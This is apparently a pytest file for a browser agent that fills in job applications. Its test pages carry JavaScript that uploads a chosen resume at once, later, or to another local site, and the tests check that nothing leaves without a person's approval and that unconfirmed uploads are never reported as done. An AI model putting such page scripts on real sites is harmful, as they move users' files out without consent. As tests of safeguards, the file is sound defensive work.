"""A page that sends a file as soon as it is chosen sends nothing before somebody agreed."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from contextlib import ExitStack, suppress
from pathlib import Path

import pytest

from steadyhand import Settings, apply
from steadyhand.adapters.documents.profile_file import Profile
from steadyhand.core.answer.sheet import Question, QuestionKind, Reply
from steadyhand.jobs.profile import Name
from steadyhand.testing import ScriptedHuman
from steadyhand.views.receipt import Receipt
from steadyhand.views.status import grade_name

from .site import Hostile, form, hostile

pytestmark = pytest.mark.browser
PERSON = Profile(Name("Orla", "Brandt"), "orla@brandt.example")
RECEIVED = "<h1>Application received</h1><p>Your reference is WD-48213.</p>"
RESUME = b"%PDF-1.4 the resume of Orla Brandt"
WAYS = {
    "form data": "data.append('file', file); return fetch(TO, { method: 'POST', body: data })",
    "raw": "return fetch(TO, { method: 'PUT', body: file })",
    "xhr": "data.append('cv', file); const x = new XMLHttpRequest(); x.open('POST', TO);"
    "const sent = new Promise((y, n) => { x.onload = () => y({ ok: true }); x.onerror = n; });"
    "x.send(data); return sent",
    "base64": "const bytes = String.fromCharCode(...new Uint8Array(await file.arrayBuffer()));"
    "return fetch(TO, { method: 'POST', body: JSON.stringify({ cv: btoa(bytes) }) })",
}
OTHERS = (
    "form data",
    *(pytest.param(way, marks=pytest.mark.soak) for way in WAYS if way != "form data"),
)
AT_ONCE = """<label>Resume <input type=file id=cv required></label><p id=state></p>
<input type=hidden name=token><script>
cv.onchange = async () => {
  const file = cv.files[0], data = new FormData(), TO = "%(to)s/upload/cv";
  try {
    const answer = await (async () => { %(way)s })();
    document.querySelector("[name=token]").value = answer.ok ? "kept" : "";
    state.textContent = file.name;
  } catch { state.textContent = "Upload failed"; }
};
</script>"""


@pytest.fixture
def site() -> Iterator[Hostile]:
    with hostile() as running:
        running.answer = (200, RECEIVED)
        yield running


class Slow(ScriptedHuman):
    """Somebody who reads a sheet before they approve it."""

    think_s = 0.0

    async def ask(self, question: Question) -> Reply | None:
        """The reply, after a while."""
        if question.kind is QuestionKind.CONFIRM_SUBMIT:
            with suppress(TimeoutError):
                await asyncio.wait_for(asyncio.Event().wait(), self.think_s)
        return await super().ask(question)


async def applied(
    site: Hostile, home: Path, *, lets: bool = False, dry: bool = False, think_s: float = 0.0
) -> Receipt:
    """A run with a resume, of somebody who approves what is sent and, with *lets*, each step."""
    resume = home / "resume.pdf"
    resume.write_bytes(RESUME)
    human = Slow({"confirm_submit": True, "step_grant": lets})
    human.think_s = think_s
    settings = Settings(home=home / "home", allow_origins=(site.origin,), headless=True)
    return await apply(
        f"{site.origin}/job",
        profile=PERSON,
        human=human,
        resume=resume,
        settings=settings,
        dry_run=dry,
    )


def end(receipt: Receipt) -> str:
    return grade_name(receipt.verdict, receipt.reason) if receipt.verdict else ""


@pytest.mark.parametrize(
    "way", ["form data", *(pytest.param(way, marks=pytest.mark.soak) for way in ("raw", "xhr"))]
)
async def test_it_is_asked_once_and_then_the_file_arrives_with_the_form(
    site: Hostile, tmp_path: Path, way: str
) -> None:
    site.page = form(AT_ONCE % {"way": WAYS[way], "to": ""})
    assert end(await applied(site, tmp_path, lets=True)) == "submitted_confirmed"
    assert [RESUME in body for body in site.uploaded] == [True]
    assert [sent["token"] for sent in site.posted] == [["kept"]]


async def test_without_a_yes_nothing_leaves(site: Hostile, tmp_path: Path) -> None:
    site.page = form(AT_ONCE % {"way": WAYS["form data"], "to": ""})
    assert end(await applied(site, tmp_path)) == "needs_human:step_write"
    assert (site.uploaded, site.posted) == ([], [])


async def test_a_dry_run_ends_there(site: Hostile, tmp_path: Path) -> None:
    site.page = form(AT_ONCE % {"way": WAYS["base64"], "to": ""})
    assert (await applied(site, tmp_path, lets=True, dry=True)).status == "dry_run"
    assert (site.uploaded, site.posted) == ([], [])


@pytest.mark.parametrize("way", OTHERS)
async def test_without_leave_no_file_goes_to_another_site(
    site: Hostile, tmp_path: Path, way: str
) -> None:
    with ExitStack() as stack:
        other = stack.enter_context(hostile())
        site.page = form(AT_ONCE % {"way": WAYS[way], "to": other.origin})
        assert end(await applied(site, tmp_path)) == "needs_human:step_write"
        assert (other.uploaded, site.posted) == ([], [])


SILENT = """<p>Resume <button type=button id=go>Attach</button> <span id=named></span>
<input type=file id=cv style="display:none"></p><script>go.onclick = () => cv.click();
cv.onchange = async () => { named.textContent = cv.files[0].name; %s };</script>"""
LOST = {
    "the site refuses its upload, and the page says nothing": (
        SILENT % "await fetch('/upload/refused', { method: 'POST', body: cv.files[0] });",
        "the site answered 413 to its upload",
    ),
    "the form that is sent never held it": (
        "<label>Resume <input type=file id=cv></label>",
        "it was in nothing that was sent",
    ),
    "the form has no place for it": ("", "no field of this form takes it"),
}


@pytest.mark.parametrize("case", LOST)
async def test_a_file_that_the_site_has_not_is_never_told_as_proven(
    site: Hostile, tmp_path: Path, case: str
) -> None:
    extra, why = LOST[case]
    site.page = form(extra)
    receipt = await applied(site, tmp_path, lets=True)
    assert end(receipt) == "submitted_confirmed"
    assert f"resume.pdf: {why}" in receipt.notes
    assert [f.proven for f in receipt.fields if f.answer == "resume.pdf"] in ([], [False])


async def test_a_file_that_is_sent_long_after_it_was_chosen_waits_for_leave_as_well(
    site: Hostile, tmp_path: Path
) -> None:
    later = "setTimeout(() => fetch('/upload/cv', { method: 'POST', body: cv.files[0] }), 2500);"
    site.page = form(SILENT % later)
    receipt = await applied(site, tmp_path, think_s=4.0)
    assert end(receipt) == "needs_human:step_write"
    assert (site.uploaded, site.posted) == ([], [])


async def test_a_file_for_another_site_is_held_and_the_end_names_the_place(
    site: Hostile, tmp_path: Path
) -> None:
    with hostile() as other:
        elsewhere = other.origin.replace("http://127.0.0.1", "localhost")
        to = f"'http://{elsewhere}/upload'"
        sends = "const data = new FormData(); data.append('f', cv.files[0]);"
        site.page = form(SILENT % f"{sends} await fetch({to}, {{ method: 'POST', body: data }});")
        receipt = await applied(site, tmp_path)
        assert (other.uploaded, site.posted) == ([], [])
        assert any(f"at {elsewhere}, another site" in each for each in receipt.errors)
